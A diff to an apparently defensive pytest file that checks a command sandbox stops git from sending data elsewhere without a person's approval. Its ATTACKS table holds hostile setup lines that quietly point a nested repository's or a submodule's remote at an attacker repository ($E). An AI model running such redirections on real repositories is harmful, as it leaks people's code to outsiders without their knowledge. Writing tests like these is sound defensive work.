@@ -170,7 +170,7 @@ def test_an_ordinary_day_of_git_is_held_nowhere(
 
 # What a person had, what a command does to it, what the person types later, and how the harm shows. `$E` is the
 # attacker's repository, `$M` a file that shows that something ran.
-PUSH = "echo new > one; git commit -qam new; git push -q"
+PUSH = "echo new > one; git commit -q --allow-empty -am new; git push -q"
 SENT = "git -C $E rev-parse -q --verify main"
 RAN = "test -e $M"
 LIB = "git submodule --quiet add $L lib; git commit -qm lib; git -C lib config user.name A"
@@ -230,7 +230,7 @@ ATTACKS = {
     "a repository among the files of another": (
         "mkdir src; touch src/x; git add src; git commit -qm src",
         "cd src; git init -q; git add .; git commit -qm x; git remote add origin $E; git config push.default current",
-        "cd src; echo new > x; git commit -qam new; git push -q", SENT,
+        "cd src; echo new > x; git commit -q --allow-empty -am new; git push -q", SENT,
     ),
     "a submodule's address": (LIB, "git -C lib remote set-url origin $E", IN_LIB, SENT),
     "another repository for a submodule": (
@@ -266,10 +266,9 @@ def typed(host: Git, project: Path, remote: Path, library: Path, test_directory:
     return shell
 
 
-@pytest.mark.parametrize("is_seen", [False, True], ids=["unseen", "seen"])
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_only_a_persons_word_lets_git_send_data_elsewhere(
-    hood: Sandbox, typed: Callable[[str], bool], remote: Path, library: Path, attack: str, is_seen: bool
+    hood: Sandbox, typed: Callable[[str], bool], remote: Path, library: Path, attack: str
 ) -> None:
     before, line, later, harm = ATTACKS[attack]
     assert typed(before)
@@ -277,10 +276,11 @@ def test_only_a_persons_word_lets_git_send_data_elsewhere(
     run = hood.run(f"set -e; R={remote} L={library} E={evil}; {line}")
     assert run.exit_code == 0, run.output
     assert run.state == "held"
-    if is_seen:
-        hood.apply(run)
     typed(later)
-    assert typed(harm) is is_seen
+    assert not typed(harm)
+    hood.apply(run)
+    typed(later)
+    assert typed(harm)
 
 
 @pytest.mark.parametrize("shape", [LINKED], indirect=True)
